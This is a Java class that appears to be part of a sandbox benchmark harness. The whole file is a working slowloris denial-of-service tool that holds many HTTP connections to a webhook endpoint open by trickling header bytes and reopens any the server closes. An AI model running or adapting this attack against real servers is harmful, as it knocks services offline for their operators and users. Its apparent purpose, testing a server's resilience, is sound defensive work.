package org.natca.intercom.sandbox.bench;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A slowloris attack: {@code connections} sockets that each send the start of a request and then one
 * byte of a header every {@code byteEvery}, never finishing it. A socket the server closes is opened
 * again at once (the attack is renewed), and counted. Runs on one thread until closed.
 */
public final class Slowloris implements AutoCloseable {
  private static final byte[] START = ("POST /api/intercom/webhook HTTP/1.1\r\nHost: victim\r\n"
      + "Content-Type: application/json\r\n").getBytes(StandardCharsets.US_ASCII);
  private static final byte[] TRICKLE = "X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n".getBytes(StandardCharsets.US_ASCII);

  private final String host;
  private final int port;
  private final int connections;
  private final Duration byteEvery;
  private final AtomicLong reopened = new AtomicLong();
  private final AtomicLong failedOpens = new AtomicLong();
  private final List<Conn> open = new ArrayList<>();
  private final Thread thread;
  private volatile boolean closed;

  private static final class Conn {
    Socket socket;
    OutputStream out;
    int sent;
  }

  public Slowloris(String host, int port, int connections, Duration byteEvery) {
    this.host = host;
    this.port = port;
    this.connections = connections;
    this.byteEvery = byteEvery;
    this.thread = new Thread(this::run, "slowloris");
    this.thread.setDaemon(true);
  }

  /** Opens every connection (on this thread), then trickles on its own thread. */
  public Slowloris start() {
    for (int i = 0; i < connections; i++) {
      Conn c = new Conn();
      connect(c);
      open.add(c);
    }
    thread.start();
    return this;
  }

  /** Connections the server closed (each was opened again). */
  public long reopened() {
    return reopened.get();
  }

  /** Connections that could not be opened at all. */
  public long failedOpens() {
    return failedOpens.get();
  }

  private void connect(Conn c) {
    try {
      Socket s = new Socket();
      s.connect(new InetSocketAddress(host, port), 2_000);
      s.setTcpNoDelay(true);
      s.setSoTimeout(1);
      c.socket = s;
      c.out = s.getOutputStream();
      c.out.write(START);
      c.out.flush();
      c.sent = 0;
    } catch (IOException e) {
      failedOpens.incrementAndGet();
      c.socket = null;
    }
  }

  private void run() {
    while (!closed) {
      long next = System.nanoTime() + byteEvery.toNanos();
      for (Conn c : open) {
        if (closed) {
          break;
        }
        if (c.socket == null) {
          connect(c);
          continue;
        }
        try {
          c.out.write(TRICKLE[c.sent++ % TRICKLE.length]);
          c.out.flush();
          if (closedByServer(c.socket)) {
            throw new IOException("closed or answered by the server");
          }
        } catch (IOException e) {
          closeQuietly(c.socket);
          reopened.incrementAndGet();
          connect(c);
        }
      }
      long wait = next - System.nanoTime();
      if (wait > 0) {
        try {
          Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
        } catch (InterruptedException e) {
          return;
        }
      }
    }
  }

  /** An end of stream or any answer (a 408, a 400) means the server is done with this connection. */
  private static boolean closedByServer(Socket s) throws IOException {
    try {
      return s.getInputStream().read() != -2; // -1 (closed) or a byte of an answer
    } catch (java.net.SocketTimeoutException e) {
      return false; // nothing yet: still held open
    }
  }

  private static void closeQuietly(Socket s) {
    try {
      if (s != null) {
        s.close();
      }
    } catch (IOException ignored) {
      // gone already
    }
  }

  @Override
  public void close() {
    closed = true;
    thread.interrupt();
    try {
      thread.join(5_000);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    for (Conn c : open) {
      closeQuietly(c.socket);
    }
  }
}
